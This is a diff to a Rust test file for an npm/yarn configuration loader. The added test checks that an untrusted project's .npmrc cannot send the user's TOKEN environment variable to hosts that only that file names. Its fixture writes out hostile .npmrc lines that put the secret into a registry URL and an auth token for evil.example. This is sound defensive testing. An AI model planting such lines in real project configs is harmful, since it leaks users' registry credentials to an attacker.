@@ -434,3 +434,17 @@ fn the_registry_that_yarn_1_tells_its_scripts_stands_behind_every_file() {
     assert_eq!(asked("yarn/1.22.22 npm/? node/v20.0.0", &[]), "https://yarns.example/");
     assert_eq!(asked("npm/11.0.0 node/v20.0.0", &own), "https://yarns.example/", "npm tells the one that it asks");
 }
+
+#[test]
+fn no_variable_goes_to_a_host_that_only_a_strangers_file_names() {
+    let project = "registry=https://evil.example/${TOKEN}/\n//evil.example/:_authToken=${TOKEN}\n//own.example/:_authToken=${TOKEN}\n//registry.npmjs.org/:_authToken=${TOKEN}\n//${TOKEN}.example/:_authToken=x\n@s:registry=https://evil.example/\n";
+    let files = [("/p/package.json", "{}"), ("/p/.npmrc", project), ("/home/me/.npmrc", "@own:registry=https://own.example/\n")];
+    let around = Surroundings { cwd: "/p".into(), ..around(&files, &[("TOKEN", "secret")]) };
+    let load = |of_stranger| NpmConfig::load(&around, &Overrides { of_stranger, ..Overrides::default() });
+    let (theirs, own) = (load(true), load(false));
+    for (address, known) in [("https://own.example/a", true), ("https://registry.npmjs.org/a", true), ("https://evil.example/a", false)] {
+        assert_eq!(header(&own, address).as_deref(), Some("Bearer secret"), "{address}, the control");
+        assert_eq!(header(&theirs, address).as_deref() == Some("Bearer secret"), known, "{address}");
+    }
+    assert!(own.registry.as_str().contains("secret") && !theirs.registry.as_str().contains("secret"));
+}
